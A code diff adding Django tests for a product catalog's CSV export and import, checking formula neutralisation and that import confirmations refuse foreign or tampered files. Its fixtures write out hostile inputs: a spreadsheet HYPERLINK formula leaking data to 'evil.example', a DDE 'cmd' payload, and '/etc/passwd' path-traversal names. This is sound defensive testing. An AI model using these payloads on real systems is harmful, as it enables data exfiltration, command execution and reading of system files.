@@ -12,6 +12,7 @@ import csv
 import io
 import os
 import subprocess
+import tempfile
 from decimal import Decimal
 from pathlib import Path
 
@@ -20,6 +21,7 @@ from django.contrib.auth import get_user_model
 from django.contrib.auth.models import Permission
 from django.core.management import CommandError, call_command
 from django.db import connection
+from django.test import Client
 from django.test.utils import CaptureQueriesContext
 
 from audit.models import AuditLog
@@ -170,6 +172,60 @@ def test_export_holds_every_column_as_the_import_reads_it(catalog):
         '{"colour": "blue", "organic": true, "size": "M", "weight_g": 180}'
     )
     assert (rows[1]["on_hand"], rows[1]["attributes"], rows[3]["category"]) == ("0", "", "")
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "'=1+1",  # really starts with a quote before '='
+    "''+1",
+    "'",
+    "'plain",
+    " leading space",
+    "trailing space ",
+]
+
+
+def test_export_neutralises_formulas_and_import_gives_each_value_back(
+    tree, make_product, system_actor, admin_client, tmp_path
+):
+    """A name a spreadsheet would run leaves with a quote before it; the import takes off
+    exactly that quote, so the round trip is exact even for values that start with quotes."""
+    sheet = category_create(actor=system_actor, name="=cmd|'-C calc'!A0")
+    for number, value in enumerate(FORMULAS):
+        make_product(
+            sku=f"F-{number}",
+            name=value,
+            description=value,
+            slug=f"-f{number}",
+            category=sheet if number == 0 else tree["home"],
+        )
+    path = str(tmp_path / "catalog.csv")
+    run("export_products", path)
+    content = Path(path).read_bytes()
+    cells = [cell for line in csv.reader(io.StringIO(content.decode())) for cell in line]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    rows = list(csv.DictReader(io.StringIO(content.decode())))
+    assert rows[0]["name"] == "'" + FORMULAS[0]
+    assert rows[0]["category"] == "'=cmd|'-C calc'!A0"
+    assert [r["name"] for r in rows][6:10] == ["''=1+1", "'''+1", "'", "'plain"]
+    assert rows[0]["slug"] == "'-f0"
+    admin_export = admin_client.post(EXPORT, {"format": "0", "resource": "0"})
+    assert b"".join(admin_export.streaming_content) == content  # the admin's export too
+    before, state = counts(), catalog_state()
+
+    out, _ = run("import_products", path)
+
+    assert f"{len(FORMULAS)} unchanged" in out
+    assert (counts(), catalog_state()) == (before, state)
+    Product.objects.update(name="changed", description="changed")
+    run("import_products", path)
+    stored = Product.objects.order_by("pk").values_list("name", "description")
+    assert list(stored) == [(value, value) for value in FORMULAS]
 
 
 # --- what an import does ------------------------------------------------------------------
@@ -770,3 +826,73 @@ def test_the_product_list_offers_import_and_export(catalog, admin_client):
     page = admin_client.get("/admin/catalog/product/").content.decode()
 
     assert IMPORT in page and EXPORT in page
+
+
+# --- the confirmation step takes only the uploader's own upload ---------------------------
+
+IMPORTER = ("catalog.add_product", "catalog.change_product", "inventory.add_inventorymovement")
+REFUSED = "Nothing was imported: this confirmation does not belong to an upload of yours"
+
+
+def _previewed(client, content: bytes, name: str) -> dict:
+    """Upload ``content`` for a preview; return the confirmation form's fields as posted."""
+    preview = client.post(IMPORT, upload(content, name))
+    confirm = preview.context["confirm_form"]
+    return {field: confirm[field].value() for field in confirm.fields}
+
+
+def test_admin_confirm_takes_only_the_uploaders_own_upload(catalog, admin_client, make_staff):
+    fields = _previewed(admin_client, csv_bytes([row(sku="ALICE-1")]), "alice.csv")
+    mallory = make_staff(*IMPORTER, username="mallory")
+    other_login = Client()  # the same user, logged in elsewhere
+    other_login.force_login(get_user_model().objects.get(username="boss"))
+    before = counts()
+
+    for intruder in (mallory, other_login):
+        response = intruder.post(PROCESS, fields, follow=True)
+
+        assert response.redirect_chain[-1][0] == IMPORT
+        assert REFUSED in response.content.decode()
+        assert counts() == before
+    assert not Product.objects.filter(sku="ALICE-1").exists()
+
+    mine = admin_client.post(PROCESS, fields, follow=True)  # untouched by the attempts
+
+    assert "Imported alice.csv, 1 row(s): 1 new" in mine.content.decode()
+    assert Product.objects.filter(sku="ALICE-1").exists()
+    again = admin_client.post(PROCESS, fields, follow=True)
+    assert REFUSED in again.content.decode()  # a ticket imports once
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["tampered", "foreign csv", "secret file", "../../../../etc/passwd", "/etc/passwd"],
+)
+def test_admin_confirm_refuses_a_tampered_or_foreign_file_name(name, catalog, admin_client):
+    fields = _previewed(admin_client, csv_bytes([row(sku="MINE-1")]), "mine.csv")
+    planted = Path(tempfile.gettempdir()) / f"pms-test-{os.getpid()}-{name.replace(' ', '-')}"
+    if name == "tampered":
+        ticket = fields["import_file_name"]
+        name = ticket[:-3] + ("AAA" if ticket[-3:] != "AAA" else "BBB")
+    elif name == "foreign csv":  # another upload, under the name the library would give it
+        planted.write_bytes(csv_bytes([row(sku="PLANTED-1")]))
+        name = planted.name
+    elif name == "secret file":  # not a CSV: its first line used to come back as an error
+        planted.write_text("TOP-SECRET-LINE\n")
+        name = planted.name
+    before = counts()
+
+    try:
+        response = admin_client.post(PROCESS, fields | {"import_file_name": name}, follow=True)
+        page = response.content.decode()
+
+        assert response.redirect_chain[-1][0] == IMPORT
+        assert REFUSED in page
+        assert "TOP-SECRET-LINE" not in page and "root:" not in page
+        assert counts() == before
+        assert not Product.objects.filter(sku__in=["MINE-1", "PLANTED-1"]).exists()
+        assert planted.exists() == (name == planted.name)  # not read, not removed either
+    finally:
+        planted.unlink(missing_ok=True)
+    mine = admin_client.post(PROCESS, fields, follow=True)
+    assert "Imported mine.csv" in mine.content.decode()
